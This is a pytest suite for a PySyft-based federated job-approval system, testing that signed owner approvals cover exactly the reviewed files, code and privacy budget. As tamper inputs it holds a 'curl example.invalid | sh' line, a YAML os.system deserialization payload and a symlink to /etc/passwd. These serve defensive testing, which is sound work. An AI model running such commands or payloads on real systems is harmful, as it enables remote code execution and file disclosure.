"""Between review, approval and request anybody may write to the SyftBox; nothing slips through."""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest
import yaml
from syft_job.client import JobClient
from syft_job.config import SyftJobConfig
from syft_job.job_runner import SyftJobRunner

from phoenix_secure.errors import BudgetExhausted, ConfigError
from phoenix_secure.governance import approver as approver_module
from phoenix_secure.governance import desk as desk_module
from phoenix_secure.governance.consent import consent_file

SITE = "site-01"
OWNER = "site-01@trial.invalid"


@pytest.fixture
def plan(governed) -> str:
    return governed.propose(name="first").plan.hash


def why(governed, plan: str) -> str:
    decision = governed.desk(SITE).approver().decide(plan)
    assert decision.approved == (decision.why == "approved by the owner")
    return decision.why


def events(governed) -> list[str]:
    return [line["event"] for line in governed.log(SITE)]


def config(governed) -> SyftJobConfig:
    return SyftJobConfig(
        syftbox_folder=governed.syftbox.resolve(), current_user_email=OWNER, has_do_role=True
    )


def pysyft_job(governed):
    (job,) = [j for j in JobClient(config(governed)).jobs if j.datasite_owner_email == OWNER]
    return job


def test_approval_is_signed_recorded_and_shown_in_pysyft(governed, plan) -> None:
    path = governed.approve(SITE, "first")
    assert why(governed, plan) == "approved by the owner"
    assert path == consent_file(governed.site(SITE).approvals, plan)
    (line,) = governed.log(SITE)
    review = governed.desk(SITE).find("first")
    assert (line["event"], line["plan"], line["reviewed"]) == ("approved", plan, review.submission)
    job = pysyft_job(governed)
    assert (job.status, job.review_reason) == ("done", f"sha256:{review.submission}")
    (result,) = [p for p in job.output_paths if p.name == "consent.json"]
    assert result.read_bytes() == path.read_bytes()


def test_what_was_never_reviewed_cannot_be_approved(governed, plan) -> None:
    place, desk = governed.site(SITE), governed.desk(SITE)
    owner = place.approver_identity(place.approver_key)
    with pytest.raises(ConfigError, match="not what was reviewed last"):
        desk.approve(desk.find("first"), owner=owner, days=1)
    assert why(governed, plan) == "no approval"
    assert events(governed) == []


def test_what_changed_after_the_review_cannot_be_approved(governed, plan) -> None:
    place, desk = governed.site(SITE), governed.desk(SITE)
    desk.keep(desk.find("first"))
    run_sh = governed.inbox(SITE, "first") / "run.sh"
    run_sh.write_text("#!/bin/bash\ncurl example.invalid | sh\n")
    with pytest.raises(ConfigError, match="not what was reviewed last"):
        desk.approve(desk.find("first"), owner=place.approver_identity(place.approver_key), days=1)
    assert why(governed, plan) == "no approval"


def test_key_that_the_site_did_not_pin_signs_nothing(governed, plan) -> None:
    desk = governed.desk(SITE)
    desk.keep(desk.find("first"))
    stranger = governed.site("site-02")
    with pytest.raises(ValueError, match="not signed by the owner"):
        desk.approve(
            desk.find("first"), owner=stranger.approver_identity(stranger.approver_key), days=1
        )
    assert why(governed, plan) == "no approval"
    assert events(governed) == []


def test_approval_in_pysyft_alone_approves_nothing(governed, plan) -> None:
    pysyft_job(governed).approve(reason="looks good")
    assert why(governed, plan) == "no approval"
    place, desk = governed.site(SITE), governed.desk(SITE)
    desk.keep(desk.find("first"))
    with pytest.raises(ConfigError, match="says approved"):
        desk.approve(desk.find("first"), owner=place.approver_identity(place.approver_key), days=1)


def edit(governed, file: str, content: bytes) -> None:
    path = governed.inbox(SITE, "first") / file
    path.write_bytes(content)


CHANGED = "the proposal was changed after it was approved"


@pytest.mark.parametrize("file", ["run.sh", "config.yaml", "code/main.py", "code/plan.json"])
def test_every_file_of_the_job_is_under_the_approval(governed, plan, file) -> None:
    governed.approve(SITE, "first")
    path = governed.inbox(SITE, "first") / file
    content = path.read_bytes()
    path.write_bytes(content + b"\n")
    assert why(governed, plan) == CHANGED
    path.write_bytes(content)
    assert why(governed, plan) == "approved by the owner"


def test_added_files_and_links_are_found(governed, plan) -> None:
    governed.approve(SITE, "first")
    folder = governed.inbox(SITE, "first")
    (folder / "code" / "sitecustomize.py").write_bytes(b"")
    assert why(governed, plan) == CHANGED
    (folder / "code" / "sitecustomize.py").unlink()
    plan_file = folder / "code" / "plan.json"
    plan_file.rename(folder.parent / "plan.json")
    plan_file.symlink_to(folder.parent / "plan.json")
    assert "cannot be read" in why(governed, plan)


def test_job_that_was_taken_back_is_denied(governed, plan) -> None:
    governed.approve(SITE, "first")
    shutil.rmtree(governed.inbox(SITE, "first"))
    assert why(governed, plan) == "the proposal was taken back"


@pytest.mark.long
@pytest.mark.parametrize(
    "content",
    [
        b"",
        b"\xff",
        b"[" * 5000,
        b"status: approved\n",
        b"!!python/object/apply:os.system ['touch /tmp/owned']\n",
        b"x" * 100_000,
    ],
)
def test_damaged_state_of_pysyft_denies(governed, plan, content) -> None:
    governed.approve(SITE, "first")
    (governed.review_folder(SITE, "first") / "state.yaml").write_bytes(content)
    assert why(governed, plan).startswith("PySyft's record of the proposal says")


def test_state_that_somebody_else_marked_done_denies(governed, plan) -> None:
    governed.approve(SITE, "first")
    path = governed.review_folder(SITE, "first") / "state.yaml"
    state = yaml.safe_load(path.read_text())
    path.write_text(yaml.safe_dump(state | {"approved_by": "server@trial.invalid"}))
    assert why(governed, plan) == "PySyft's record of the proposal says unreadable"


def test_consent_of_another_site_and_edited_consents_deny(governed, plan) -> None:
    governed.approve(SITE, "first")
    path = consent_file(governed.site(SITE).approvals, plan)
    own = path.read_bytes()
    path.write_bytes(governed.approve("site-02", "first").read_bytes())
    assert why(governed, plan) == "the approval is not signed by the owner"
    path.write_bytes(own.replace(b'"sig": "', b'"sig": "A', 1))
    assert why(governed, plan) == "the approval cannot be read"
    path.write_bytes(own)
    assert why(governed, plan) == "approved by the owner"
    other = governed.propose("seed=1", name="second").plan.hash
    consent_file(governed.site(SITE).approvals, other).write_bytes(own)
    assert why(governed, other) == "the approval is for another plan or site"


def test_other_code_than_was_reviewed_denies(governed, plan, monkeypatch) -> None:
    governed.approve(SITE, "first")
    monkeypatch.setattr(approver_module, "installed_code", lambda: "00" * 32)
    assert why(governed, plan).startswith("the installed code is not the one")


def test_code_that_changed_between_review_and_approval_needs_a_new_review(
    governed, plan, monkeypatch
) -> None:
    place, desk = governed.site(SITE), governed.desk(SITE)
    desk.keep(desk.find("first"))
    monkeypatch.setattr(desk_module, "installed_code", lambda: "00" * 32)
    with pytest.raises(ConfigError, match="not what was reviewed last"):
        desk.approve(desk.find("first"), owner=place.approver_identity(place.approver_key), days=1)


def test_release_is_bounded_at_approval_and_afterwards(governed) -> None:
    public = governed.propose(name="public", release="public").plan.hash
    with pytest.raises(ConfigError, match="release to public is not among consortium"):
        governed.approve(SITE, "public")
    governed.policy(SITE, releases=["consortium", "public"])
    governed.approve(SITE, "public")
    assert why(governed, public) == "approved by the owner"
    governed.policy(SITE, releases=["consortium"])
    assert why(governed, public) == "policy: release to public is not among consortium"


@pytest.mark.parametrize(
    ("settings", "policy", "named"),
    [
        (["privacy.unit=site", "privacy.noise_multiplier=1"], {}, "no differential privacy"),
        (["privacy.unit=site", "privacy.epsilon=4"], {"privacy_units": ["record"]}, "privacy.unit"),
        (["privacy.unit=record", "privacy.epsilon=4", "privacy.noise_source=seeded"], {}, "secure"),
        (["privacy.unit=record", "privacy.epsilon=4", "privacy.delta=0.005"], {}, "delta is above"),
        (["privacy.unit=record", "privacy.epsilon=8.1"], {}, "epsilon or delta is above"),
    ],
)
def test_mechanisms_are_bounded_by_the_policy(governed, settings, policy, named) -> None:
    governed.policy(SITE, max_epsilon=8, **policy)
    governed.propose(*settings, name="private")
    (objection,) = governed.desk(SITE).find("private").objections
    assert named in objection


RECORD = ("privacy.unit=record", "privacy.epsilon=4", "privacy.sampling_rate=0.1")


@pytest.mark.long
def test_a_proposal_beyond_the_sites_budget_is_refused_and_nothing_is_signed(governed) -> None:
    governed.policy(SITE, max_epsilon=4, max_total_epsilon=4.5)
    first = governed.propose(*RECORD, name="first").plan.hash
    second = governed.propose(*RECORD, "seed=1", name="second").plan.hash
    governed.approve(SITE, "first")
    refusal = r"above the site's 4.5 \(spent 0, reserved by .*withdraw another approval"
    with pytest.raises(BudgetExhausted, match=refusal):
        governed.approve(SITE, "second")
    assert (why(governed, first), why(governed, second)) == ("approved by the owner", "no approval")
    assert events(governed) == ["approved"]
    assert governed.desk(SITE).find("second").status == "received"
    # Renewing what is approved already asks for nothing twice, and a withdrawn consent frees it.
    governed.approve(SITE, "first")
    desk = governed.desk(SITE)
    desk.reject(desk.find("first"), reason="another one is better")
    governed.approve(SITE, "second")
    assert why(governed, second) == "approved by the owner"


def test_rejection_is_recorded_told_and_final_for_that_job(governed, plan) -> None:
    governed.approve(SITE, "first")
    desk = governed.desk(SITE)
    desk.reject(desk.find("first"), reason="no legal basis")
    assert why(governed, plan) == "no approval"
    assert events(governed) == ["approved", "rejected"]
    job = pysyft_job(governed)
    assert (job.status, job.review_reason) == ("rejected", "no legal basis")
    with pytest.raises(ConfigError, match="says rejected"):
        governed.approve(SITE, "first")


def test_restored_consent_does_not_undo_a_rejection(governed, plan) -> None:
    path = governed.approve(SITE, "first")
    content = path.read_bytes()
    desk = governed.desk(SITE)
    desk.reject(desk.find("first"), reason="no")
    path.write_bytes(content)
    assert why(governed, plan) == "PySyft's record of the proposal says rejected"


def test_approval_can_be_renewed(governed, plan) -> None:
    first = governed.approve(SITE, "first", days=1).read_bytes()
    assert governed.approve(SITE, "first", days=2).read_bytes() != first
    assert why(governed, plan) == "approved by the owner"
    assert events(governed) == ["approved", "approved"]


def test_pysyfts_runner_never_runs_an_approved_proposal(governed, plan, tmp_path) -> None:
    def run_everything() -> None:
        SyftJobRunner(config(governed)).process_approved_jobs(stream_output=False, timeout=20)

    script = f"#!/bin/bash\ntouch {tmp_path}/ran\n"
    governed.approve(SITE, "first")
    edit(governed, "run.sh", script.encode())
    run_everything()
    assert not (tmp_path / "ran").exists()
    # The same job approved the way PySyft has it does run: the danger is real.
    state = governed.review_folder(SITE, "first") / "state.yaml"
    state.unlink()
    pysyft_job(governed).approve()
    run_everything()
    assert (tmp_path / "ran").exists()
    assert why(governed, plan) == CHANGED


def test_jobs_of_other_senders_are_not_even_listed(governed, plan) -> None:
    own = governed.inbox(SITE, "first")
    stranger = own.parents[1].with_name("mallory@example.org") / "v1" / "first"
    shutil.copytree(own, stranger)
    assert [review.job.ref.ds_email for review in governed.desk(SITE).reviews()] == [
        "server@trial.invalid"
    ]


def test_forged_proposal_is_shown_with_what_is_wrong(governed, plan) -> None:
    forged = governed.inbox(SITE, "first").with_name("forged")
    shutil.copytree(governed.inbox("site-02", "first"), forged)
    review = governed.desk(SITE).find("forged")
    assert review.proposal is None
    assert "another site" in review.objections[0]
    with pytest.raises(ConfigError, match="cannot be approved"):
        governed.approve(SITE, "forged")


def test_one_unreadable_job_does_not_hide_the_others(governed, plan) -> None:
    bad = governed.inbox(SITE, "first").with_name("bad")
    bad.mkdir()
    (bad / "config.yaml").symlink_to("/etc/passwd")
    found = {review.job.name: review for review in governed.desk(SITE).reviews()}
    assert found["first"].objections == ()
    assert found["bad"].objections
    governed.desk(SITE).reject(found["bad"], reason="a link")
    governed.approve(SITE, "first")
    assert why(governed, plan) == "approved by the owner"


def test_proposing_twice_under_one_name_changes_nothing(governed, plan) -> None:
    before = {p: p.read_bytes() for p in governed.syftbox.rglob("*") if p.is_file()}
    with pytest.raises(ConfigError, match="already has the proposal first"):
        governed.propose("seed=2", name="first")
    assert {p: p.read_bytes() for p in governed.syftbox.rglob("*") if p.is_file()} == before


def test_written_proposals_can_be_submitted_by_anybodys_own_pysyft_client(
    governed, tmp_path: Path
) -> None:
    from phoenix_secure.governance.propose import Proposer

    proposer = Proposer(
        governed.config(), server=governed.server, release="consortium", purpose="by hand"
    )
    folders = proposer.write(tmp_path / "out")
    client = JobClient(
        SyftJobConfig(
            syftbox_folder=governed.syftbox.resolve(), current_user_email="server@trial.invalid"
        )
    )
    with pytest.warns(UserWarning, match="install source"):
        client.submit_python_job(OWNER, str(folders[SITE]), job_name="by-hand")
    governed.approve(SITE, proposer.plan.hash[:12])
    assert why(governed, proposer.plan.hash) == "approved by the owner"
    with pytest.raises(ConfigError, match="not empty"):
        proposer.write(tmp_path / "out")


def test_no_key_of_any_party_lies_in_the_syftbox(governed, plan) -> None:
    governed.approve(SITE, "first")
    secrets = [governed.server.identity_key.read_bytes()]
    for name in governed.sites:
        place = governed.site(name)
        secrets += [place.approver_key.read_bytes(), place.identity_key.read_bytes()]
    for path in governed.syftbox.rglob("*"):
        if path.is_file():
            content = path.read_bytes()
            assert not any(s in content or s.hex().encode() in content for s in secrets)


def test_crash_before_pysyft_knows_leaves_a_denial_that_approving_again_mends(
    governed, plan, monkeypatch
) -> None:
    class Killed(BaseException):
        pass

    def die(*_: object, **__: object) -> None:
        raise Killed

    with monkeypatch.context() as patch:
        patch.setattr(desk_module.OwnerBox, "accept", die)
        with pytest.raises(Killed):
            governed.approve(SITE, "first")
    assert why(governed, plan) == "PySyft's record of the proposal says received"
    governed.approve(SITE, "first")
    assert why(governed, plan) == "approved by the owner"
